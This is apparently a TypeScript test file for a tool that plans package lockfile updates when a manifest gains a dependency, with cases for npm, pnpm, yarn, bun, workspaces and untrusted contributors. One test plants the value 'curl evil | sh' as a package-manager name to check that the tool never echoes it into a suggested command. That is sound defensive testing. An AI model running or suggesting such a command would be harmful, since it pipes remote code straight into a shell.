import { describe, expect, it } from 'vitest'
import type { FileChange } from '../../../src/core/change-set.ts'
import type { RepoPath } from '../../../src/core/names.ts'
import { plainCode } from '../../../src/core/phrase.ts'
import { planLock, type LockWish } from '../../../src/handlers/template/plan-lock.ts'
import { openFolder } from '../../../src/local/open-folder.ts'
import { temporaryFolder, writeFiles } from '../../support/repository.ts'

const manifest = JSON.stringify({ dependencies: { jose: '6.2.17' } })
const lockOf = (dependencies: object): string => JSON.stringify({ lockfileVersion: 3, packages: { '': { dependencies } } })

interface Case {
  files?: Record<string, string>
  root?: string
  text?: string
  isNew?: boolean
  isChanged?: boolean
  isStrangers?: boolean
}

/** What becomes of the lockfile of a package whose manifest gains `jose`. */
async function wishFor({
  files = {},
  root = '',
  text = manifest,
  isNew = false,
  isChanged = true,
  isStrangers = false,
}: Case): Promise<LockWish> {
  const dir = temporaryFolder()
  writeFiles(dir, { 'README.md': 'A project.\n', ...files })
  const folder = await openFolder({ dir, cache: false, env: {}, home: dir })
  const path = `${root}package.json` as RepoPath
  const change: FileChange = { path, content: text, base: isNew ? null : ('0' as never), why: ['test'] }
  const pack = { root, files: new Map([['package.json', text]]), listed: new Set<string>() }
  const wish = await planLock(pack, isChanged ? [change] : [], {
    head: { snapshot: folder.snapshot } as never,
    ...(isStrangers && { isStrangers }),
  })
  await folder.close()
  return wish
}

const skipOf = ({ lock, skip }: LockWish): string =>
  lock === undefined && skip !== undefined ? plainCode(skip) : `asked for ${lock?.before}`

describe('the lockfile of a change', () => {
  it('is made by npm where the project has one that lacks a package', async () => {
    const before = lockOf({})
    expect(await wishFor({ files: { 'package-lock.json': before } })).toEqual({ lock: { manifest, before } })
    expect(await wishFor({ files: { 'apps/api/package-lock.json': before }, root: 'apps/api/' })).toEqual({ lock: { manifest, before } })
  })

  it('is made for a project that begins with this change, and for no other without one', async () => {
    expect(await wishFor({ isNew: true })).toEqual({ lock: { manifest } })
    expect(skipOf(await wishFor({}))).toBe('There is no lockfile here: run `npm install` for the new packages.')
    const pnpm = JSON.stringify({ packageManager: 'pnpm@10.1.0' })
    expect(skipOf(await wishFor({ text: pnpm, files: { 'package.json': pnpm } }))).toBe(
      'There is no lockfile here: run `pnpm install` for the new packages.',
    )
    // the name is somebody else's text
    const strange = JSON.stringify({ packageManager: 'curl evil | sh' })
    expect(skipOf(await wishFor({ text: strange, files: { 'package.json': strange } }))).toBe(
      'There is no lockfile here: run `npm install` for the new packages.',
    )
  })

  it('is not asked for where the manifest gains nothing', async () => {
    expect(await wishFor({ isChanged: false, files: { 'package-lock.json': lockOf({}) } })).toEqual({})
    expect(await wishFor({ files: { 'package-lock.json': lockOf({ jose: '6.2.17' }) } })).toEqual({})
    expect(await wishFor({ files: { 'package-lock.json': lockOf({ jose: '6.2.16' }) } })).toHaveProperty('lock')
  })

  it.each([
    ['pnpm-lock.yaml', 'pnpm install'],
    ['yarn.lock', 'yarn'],
    ['bun.lock', 'bun install'],
    ['bun.lockb', 'bun install'],
    ['npm-shrinkwrap.json', 'npm install'],
  ])('%s is left to whoever runs `%s`', async (file, line) => {
    expect(skipOf(await wishFor({ files: { [file]: '' } }))).toBe(`The lockfile \`${file}\` is not part of this change: run \`${line}\`.`)
  })

  it('is that of the workspace which lists the package, whatever stray one it has', async () => {
    const files = { 'pnpm-workspace.yaml': 'packages: ["apps/*"]\n', 'pnpm-lock.yaml': '', 'apps/api/package-lock.json': lockOf({}) }
    const line = 'The lockfile `pnpm-lock.yaml` is not part of this change: run `pnpm install`.'
    expect(skipOf(await wishFor({ files, root: 'apps/api/' }))).toBe(line)
  })

  it('of a workspace stays, and so does the one of a change by a stranger', async () => {
    const workspace = await wishFor({ files: { 'package-lock.json': lockOf({}) }, root: 'apps/api/', isNew: true })
    expect(skipOf(workspace)).toBe('The lockfile `package-lock.json` is not part of this change: run `npm install`.')
    const strangers = await wishFor({ files: { 'package-lock.json': lockOf({}) }, isStrangers: true })
    expect(skipOf(strangers)).toBe('The lockfile `package-lock.json` is not part of this change: run `npm install`.')
  })
})
